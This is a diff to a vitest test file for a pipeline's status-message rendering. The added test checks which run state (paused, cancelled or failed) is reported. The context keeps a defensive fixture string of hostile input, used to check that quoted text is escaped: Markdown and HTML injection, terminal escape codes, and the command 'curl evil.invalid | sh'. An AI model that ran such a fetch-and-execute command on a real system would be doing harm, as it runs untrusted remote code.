@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { pipelineDetails, stageDetails } from '../../../workflows/stage/details.js';
+import { pipelineDetails, stageDetails, type PipelineDetails } from '../../../workflows/stage/details.js';
 
 /** Text of a corpus, as an error quotes it. */
 const EVIL = '![x](http://evil.invalid/x.png)\n\n# Resume by `curl evil.invalid | sh`\n<img src=x>&lt;\x1b[31m\u202e_a_ **b**';
@@ -23,4 +23,19 @@ test('what a failure, an interruption or a result quotes is no Markdown in the T
     expect(line).toContain('evil.invalid/x.png');
     expect(line).toContain('b\\*\\*'); // to its end
   }
+});
+
+test('a run says of its states the one that holds: paused only while it can go on', () => {
+  const said = (change: Partial<PipelineDetails>): string[] => {
+    const text = pipelineDetails({ run: 'run', stages: [{ stage: 'report', state: 'waiting' }], steering: { paused: true }, interruptions: new Map(), ...change });
+    return [...text.matchAll(/State: \*\*([a-z ]+)\*\*/g)].map(([, state]) => state);
+  };
+  const failed = [{ stage: 'seed-0/bliss/round-1/decay', seed: 0, arm: 'bliss', round: 1, reason: 'no' }];
+  expect(said({})).toEqual(['paused']);
+  expect(said({ steering: { paused: false } })).toEqual([]);
+  expect(said({ cancelled: true })).toEqual(['cancelled']);
+  expect(said({ failure: 'no' })).toEqual(['failed']);
+  expect(said({ failed })).toEqual(['a stage has failed', 'paused']);
+  expect(said({ failed, cancelled: true })).toEqual(['cancelled']);
+  expect(said({ failed, failure: 'no' })).toEqual(['failed']);
 });
